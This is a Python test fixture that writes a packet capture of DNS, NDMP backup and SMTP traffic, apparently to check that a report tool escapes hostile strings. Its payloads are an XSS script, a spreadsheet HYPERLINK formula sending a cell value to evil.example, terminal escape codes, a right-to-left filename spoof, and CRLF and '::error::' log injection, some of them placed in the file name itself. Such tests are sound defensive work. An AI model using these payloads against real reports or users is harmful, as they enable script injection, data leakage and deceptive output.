"""A capture in which everybody attacks whoever reads the report: in names, greetings, NDMP strings and its own file name."""

from __future__ import annotations

import os
import socket
import struct
from pathlib import Path

from tests.helpers.pcap import Writer

SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x9b31m"
TURNED = "\u202egpj.exe\u200f"
BROKEN = "one\r\ntwo\u2028::error::three\ttab"
NO_UTF8 = b"caf\xff\xfe\xc3("
LONG = "A" * 65_536

MEDIA, AGENT, OUTSIDER, RELAY, RESOLVER = "10.0.1.1", "10.0.2.5", "198.51.100.9", "10.0.3.25", "10.0.3.53"
POLICY = (
    "zones:\n  media-servers: [10.0.1.1]\n  agents: {hosts: [10.0.2.0/24], dynamic_ports: 50100-50124}\n"
    "  mail-relays: [10.0.3.25]\n"
)
JOBS = (SCRIPT, FORMULA, TERMINAL, TURNED, BROKEN, LONG)
_TIME = 1_700_000_000
_SEGMENT = 1_400


def attacked_site(folder: Path) -> tuple[Path, Path]:
    """Write a capture and the policy of its site; return both paths.

    The name of the capture is an attack of its own, with a byte that is no UTF-8 in it.
    """
    capture = Writer()
    for place, attack in enumerate((SCRIPT, FORMULA, TERMINAL, TURNED, BROKEN)):
        for address in (AGENT, OUTSIDER):
            answer = _answer(f"{place}{attack}".encode()[:63], address)
            capture.udp((RESOLVER, 53), (MEDIA, 40_000 + place), answer)
    for place, attack in enumerate(JOBS):
        whom = OUTSIDER if place % 2 else MEDIA
        capture.connection((whom, 2000 + place), (AGENT, 10000), _job(attack.encode()))
    capture.connection((MEDIA, 3000), (AGENT, 10000), _job(NO_UTF8))
    for place, attack in enumerate((SCRIPT, FORMULA, TURNED)):
        greeting, hello = f"220 {attack} ESMTP\r\n".encode(), f"EHLO {attack}\r\n".encode()
        talk = [(1, greeting), (0, hello), (1, b"250 ok\r\n"), (0, b"QUIT\r\n"), (1, b"221 bye\r\n")]
        capture.connection((AGENT, 4000 + place), (RELAY, 25), talk)
    name = os.fsencode(f"=1+1<b>{TERMINAL}{TURNED}\r\n::error::x") + b"\xff.pcap"
    policy = folder / "site.yaml"
    policy.write_text(POLICY, encoding="utf-8")
    return capture.save(folder / os.fsdecode(name)), policy


def _answer(owner: bytes, address: str) -> bytes:
    """Return a DNS answer that gives one name of one label to an address."""
    name = bytes([len(owner)]) + owner + b"\0"
    head = struct.pack(">HHHHHH", 7, 0x8180, 1, 1, 0, 0)
    return head + name + struct.pack(">HH", 1, 1) + name + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton(address)


def _job(text: bytes) -> list[tuple[int, bytes]]:
    """Return what is said on a control connection of version 3 when every string of a backup is ``text``."""
    words = struct.pack
    pairs = [(b"FILESYSTEM", text), (b"USERNAME", text), (b"BE_JOB_NAME", text)]
    environment = words(">I", len(pairs)) + b"".join(_string(name) + _string(value) for name, value in pairs)
    said = [
        (1, _message(1, 0x502, words(">II", 0, 3) + _string(text))),
        (0, _message(1, 0x900, words(">I", 3))),
        (1, _message(2, 0x900, words(">I", 0), answers=1)),
        (0, _message(2, 0x901, words(">I", 1) + _string(text) + _string(b"secret"))),
        (1, _message(3, 0x901, words(">I", 0), answers=2)),
        (0, _message(3, 0x100, b"")),
        (1, _message(4, 0x100, words(">I", 0) + _string(text) * 4, answers=3)),
        (0, _message(4, 0x401, _string(text) + environment)),
        (1, _message(5, 0x401, words(">I", 0), answers=4)),
    ]
    return [(who, data[at : at + _SEGMENT]) for who, data in said for at in range(0, len(data), _SEGMENT)]


def _message(sequence: int, code: int, body: bytes, *, answers: int = 0) -> bytes:
    head = struct.pack(">IIIIII", sequence, _TIME, 1 if answers else 0, code, answers, 0)
    return struct.pack(">I", 0x80000000 | len(head + body)) + head + body


def _string(text: bytes) -> bytes:
    return struct.pack(">I", len(text)) + text + bytes(-len(text) % 4)
